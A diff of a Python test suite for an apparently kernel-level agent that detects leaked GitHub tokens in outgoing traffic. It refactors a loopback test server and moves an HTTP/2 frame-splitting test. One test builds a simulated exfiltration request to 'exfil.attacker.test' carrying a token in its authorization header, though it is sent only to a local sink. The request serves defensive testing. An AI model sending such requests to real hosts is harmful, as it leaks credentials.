@@ -10,31 +10,15 @@ import tempfile
 import threading
 import time
 
-from cwtest import (Agent, BufferedWriter, github_token, h2_frame, h2_streams, hpack_literal,
-                    kernel_map, require_root, wait_until)
+from cwtest import (Agent, BufferedWriter, LoopbackServer, assert_copying_stopped, conn_entry,
+                    github_token, h2_frame, h2_streams, hpack_literal, kernel_map, require_root,
+                    wait_until)
 
 
-class Sink:
+class Sink(LoopbackServer):
     """A loopback TCP server that reads whatever comes and answers each request with 200."""
 
-    def __init__(self):
-        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        self.sock.bind(("127.0.0.1", 0))
-        self.sock.listen(16)
-        self.port = self.sock.getsockname()[1]
-        self.t = threading.Thread(target=self._serve, daemon=True)
-        self.t.start()
-
-    def _serve(self):
-        while True:
-            try:
-                c, _ = self.sock.accept()
-            except OSError:
-                return
-            threading.Thread(target=self._conn, args=(c,), daemon=True).start()
-
-    def _conn(self, c):
+    def handle(self, c):
         with c:
             while True:
                 try:
@@ -45,9 +29,6 @@ class Sink:
                     return
                 if b"\r\n\r\n" in data:
                     c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
-
-    def close(self):
-        self.sock.close()
 
 
 def send_request(port, host, token, pieces=1, family=socket.AF_INET, addr="127.0.0.1"):
@@ -300,16 +281,12 @@ def test_client_hello_after_an_empty_iovec_stops_capture():
         s.sendmsg([b"", _client_hello()])
         for _ in range(16):
             s.sendmsg([b"", b"\x17\x03\x03" + os.urandom(16381)])
-        me, fd = os.getpid(), s.fileno()
-        entry = [e["value"] for e in kernel_map(agent, "conns")
-                 if (e["key"]["tgid"], e["key"]["fd"]) == (me, fd)]
+        entry = conn_entry(agent, s)
     finally:
         s.close()
         agent.stop()
         sink.close()
-    assert len(entry) == 1, entry
-    assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
-    assert entry[0]["conn"]["budget"]["captured"] < 4096, entry
+    assert_copying_stopped(entry)
 
 
 def test_budget_catches_h2c_headers_that_start_a_large_write():
@@ -407,6 +384,20 @@ def test_h2c_frames_followed_after_a_write_longer_than_the_cap():
     _h2c_after_upload(after_long_write, budget="1M", upload=0)
 
 
+def test_budget_follows_h2c_frame_headers_cut_by_a_write():
+    """A frame header cut by a write's end is completed by the next write: the frames stay
+    followed past a DATA frame header cut that way, and a HEADERS frame whose header starts
+    at the end of one write and ends in the next is copied whole, its first bytes included."""
+    def cut(s, request, token):
+        data = h2_frame(0, 0, 1, b"u" * 16384)
+        s.sendall(data + data[:5])	# a DATA frame header cut after 5 bytes
+        s.sendall(data[5:])
+        s.sendall(data + request[:4])	# the HEADERS frame's header cut after 4 bytes
+        s.sendall(request[4:] + h2_frame(0, 1, 3, b"v" * 100))
+    sent = _h2c_after_upload(cut)
+    assert sent < (64 << 10) + 8192, sent
+
+
 def test_budget_follows_h2c_frames_after_a_header_cut_after_eight_bytes():
     """A frame header cut one byte short of its end (eight bytes in one write, one in the next)
     is put together right: the frames after it stay followed, and a HEADERS frame after a
@@ -466,31 +457,6 @@ def test_budget_follows_h2c_frames_across_writes_cut_anywhere():
     agent = one_token_alert(send, "--payload-budget", "64K")
     sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
     # the budget and the HEADERS frame with the 1 KiB after it, not 236 KiB of DATA
-    assert sent < (64 << 10) + 8192, sent
-
-
-def test_budget_follows_h2c_frame_headers_cut_by_a_write():
-    """A frame header cut by a write's end is completed by the next write: the frames stay
-    followed past a DATA frame header cut that way, and a HEADERS frame whose header starts
-    at the end of one write and ends in the next is copied whole, its first bytes included."""
-    def send(port, token):
-        s = socket.create_connection(("127.0.0.1", port))
-        authority = hpack_literal(b":authority", b"exfil.attacker.test")
-        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
-        s.sendall(h2_frame(1, 4, 1, authority))
-        data = h2_frame(0, 0, 1, b"u" * 16384)
-        for _ in range(30):
-            s.sendall(data)
-        s.sendall(data + data[:5])	# a DATA frame header cut after 5 bytes
-        s.sendall(data[5:])
-        request = h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
-                           hpack_literal(b"authorization", b"token " + token.encode()))
-        s.sendall(data + request[:4])	# the HEADERS frame's header cut after 4 bytes
-        s.sendall(request[4:] + h2_frame(0, 1, 3, b"v" * 100))
-        time.sleep(0.2)
-        s.close()
-    agent = one_token_alert(send, "--payload-budget", "64K")
-    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
     assert sent < (64 << 10) + 8192, sent
 
 
